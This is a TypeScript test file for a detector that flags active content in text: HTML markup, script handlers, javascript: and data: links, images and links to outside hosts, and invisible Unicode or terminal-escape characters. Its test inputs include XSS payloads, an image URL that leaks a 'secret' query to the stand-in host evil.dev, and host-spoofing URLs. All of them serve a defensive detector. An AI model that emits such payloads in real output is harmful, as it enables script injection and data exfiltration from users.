import { describe, expect, it } from 'vitest';
import { ORDINARY_TEXTS } from '../testing/ordinary-texts.ts';
import type { ActiveContent } from './active-content.ts';
import { ACTIVE_CONTENT, findActiveContent, withoutActiveContent } from './active-content.ts';

const kinds = (text: string, hosts: readonly string[] = []): ActiveContent[] => [
  ...new Set(findActiveContent(text, hosts).map((one) => one.kind)),
];

describe('active content', () => {
  it.each([
    ['<b>bold</b>', ['markup']],
    ['<script>alert(1)</script>', ['markup', 'script']],
    ['<SCRIPT\nsrc=x>', ['markup', 'script']],
    ['<img src=x onerror=alert(1)>', ['markup', 'script']],
    ['<svg/onload=alert(1)>', ['markup', 'script']],
    ['<img src="https://evil.dev/?q=secret">', ['markup', 'image', 'link']],
    ['<iframe srcdoc="x"></iframe>', ['markup', 'script']],
    ['[click](javascript:alert(1))', ['script']],
    ['<a href="data:text/html;base64,xx">', ['markup', 'script']],
    ['![x](https://evil.dev/a.png?q=1)', ['image', 'link']],
    ['![x](//evil.dev/a.png)', ['image']],
    ['see https://evil.dev/page', ['link']],
    ['<!-- hidden -->', ['markup']],
    ['a\u200bb', ['invisible']],
    ['user\u202egnp.exe', ['invisible']],
    ['\u001b[31mred', ['invisible']],
    ['hi\u{e0048}\u{e0049}', ['invisible']],
  ])('%j is %j', (text, wanted) => {
    expect(kinds(text).toSorted()).toEqual(wanted.toSorted());
  });

  it('allows hosts and what is below them, as a browser reads them', () => {
    const allowed = ['tidegate-demo.dev'];
    expect(
      kinds(
        '![x](https://img.tidegate-demo.dev/a.png) https://tidegate-demo.dev:8443/x https://jo@tidegate-demo.dev',
        allowed,
      ),
    ).toEqual([]);
    for (const text of [
      'https://tidegate-demo.dev.evil.dev/',
      'https://tidegate-demo.dev@evil.dev/',
      'https://eviltidegate-demo.dev',
      'https://evil.dev/tidegate-demo.dev',
      'https:\\\\evil.dev\\@tidegate-demo.dev',
    ])
      expect([text, kinds(text, allowed)]).toEqual([text, ['link']]);
  });

  it('finds nothing in ordinary texts', () => {
    for (const text of ORDINARY_TEXTS) expect([text, findActiveContent(text)]).toEqual([text, []]);
  });

  it('scores 0 for the kinds it is asked about', () => {
    const score = (asked: readonly ActiveContent[]) =>
      withoutActiveContent({ kinds: asked, allowedHosts: [] }).ofCase!({ output: 'see https://evil.dev' });
    expect(score(ACTIVE_CONTENT)).toBe(0);
    expect(score(['script', 'image'])).toBe(1);
  });

  it('takes time in proportion to hostile texts', () => {
    for (const text of [
      '<a '.repeat(60_000),
      `<a ${'on'.repeat(60_000)}`,
      '!['.repeat(60_000),
      '<img '.repeat(40_000),
    ])
      expect(findActiveContent(text)).toEqual([]);
  });
});
